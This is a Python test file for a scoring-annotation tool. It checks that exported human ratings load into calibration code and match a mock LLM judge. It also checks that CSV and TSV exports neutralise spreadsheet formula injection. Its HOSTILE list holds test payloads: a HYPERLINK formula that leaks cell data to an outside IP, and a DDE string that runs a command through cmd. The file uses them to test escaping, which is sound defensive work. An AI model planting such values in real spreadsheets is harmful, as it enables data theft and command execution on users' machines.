"""The export feeds calibration: scores given through the app, exported, loaded with
`calibration.load_human_scores`, compared with a real `judge score` results file (judged over
HTTP by tests/llm_server.py) by `calibration.agreement`."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd
from test_annotate_support import RATED, Live, live, rate

import calibration
import judge
from judge.annotate.export import COLUMNS, export_scores
from judge.load.rubric import load_rubric
from tests.llm_server import LLMServer, Reply

__all__ = ["live"]  # the fixture, imported for pytest

MODEL = "openai/test-judge"
QUALITY = [5, 1, 4, 2]  # per item (file order): what every rater and the judge give


def _levels_for(index: int) -> dict[str, int]:
    return dict.fromkeys(RATED[:-1], QUALITY[index]) | {"hallucination": index % 2}


def test_export_loads_into_calibration_and_matches_a_judge(
    live: Live, llm_server: LLMServer, tmp_path: Path
) -> None:
    index = {item: i for i, item in enumerate(live.ids)}
    for rater in live.links:
        with live.client() as client:
            for n, item in enumerate(live.study.queues[rater], start=1):
                rate(client, live.path(rater), n, _levels_for(index[item]), comment=f"{rater}")
    human_path = tmp_path / "human.csv"
    export_scores(live.db, human_path)

    human = calibration.load_human_scores(human_path)
    assert list(human.columns) == list(COLUMNS)
    assert len(human) == len(live.ids) * 2 * len(RATED)
    assert set(human["rater_kind"]) == {"human"}

    # The judge gives each item the raters' levels: it is recognised by its history's age.
    histories = {live.study.items[i].prediction.CLINICAL_HISTORY: i for i in live.ids}

    def verdict(body: dict[str, Any], n: int) -> Reply:
        text = "\n".join(str(m.get("content")) for m in body["messages"])
        item = next(i for h, i in histories.items() if h and h in text)
        # ddx 1.0's other criteria (the raters here rate the 0.1 six): any valid level.
        others = {c.id: c.scale.levels[0] for c in load_rubric("ddx").llm_criteria}
        levels = others | _levels_for(index[item])
        return Reply.json({c: {"rationale": "r", "score": v} for c, v in levels.items()})

    llm_server.script = verdict
    predictions = live.study.store.path.with_name("preds.jsonl")
    results = tmp_path / "results.jsonl"
    judge.score(
        predictions, "ddx", judges=[MODEL], api_base=llm_server.url, out=results, timeout=60.0
    )

    levels, domains = calibration.scales_from_rubric(load_rubric("ddx"))
    judged = calibration.load_judge_results(results)
    table = calibration.agreement(
        pd.concat([judged, human], ignore_index=True), levels, domains, n_boot=50
    )
    rows = table[table["judge"] == MODEL].set_index("criterion")
    assert sorted(rows.index) == sorted(RATED)
    assert (rows["n_items"] == len(live.ids)).all()
    assert (rows["n_humans"] == 3).all()
    assert (rows["alpha_with_judge"] == 1.0).all()


HOSTILE = [
    '=HYPERLINK("http://198.51.100.7/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "'=already quoted",
    "a plain comment",
]


def test_csv_export_escapes_formulas_and_calibrate_reads_them_back(
    live: Live, tmp_path: Path
) -> None:
    hostile = iter(HOSTILE * 3)
    written: dict[tuple[str, str], str] = {}
    for rater in live.links:
        with live.client() as client:
            for n, item in enumerate(live.study.queues[rater], start=1):
                comment = next(hostile)
                rate(client, live.path(rater), n, _levels_for(0), comment=comment)
                written[(item, rater)] = comment.strip()  # the app strips comments
    assert set(written.values()) >= {c.strip() for c in HOSTILE}
    for suffix, delimiter in ((".csv", ","), (".tsv", "\t")):
        out = tmp_path / f"human{suffix}"
        export_scores(live.db, out)
        with out.open(newline="") as handle:
            cells = [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]
        # No cell starts a formula: each one that would is behind a quote.
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert '\'=HYPERLINK("http://198.51.100.7/?leak="&A1,"click")' in cells
        human = calibration.load_human_scores(out)
        rows = human[["item", "rater", "comment"]].itertuples(index=False)
        read = {(item, rater): comment for item, rater, comment in rows}
        assert read == written  # every comment read back exactly
        assert human["score"].map(type).eq(float).all()  # scores are still numbers
        assert set(human["score"]) == {float(QUALITY[0]), 0.0}
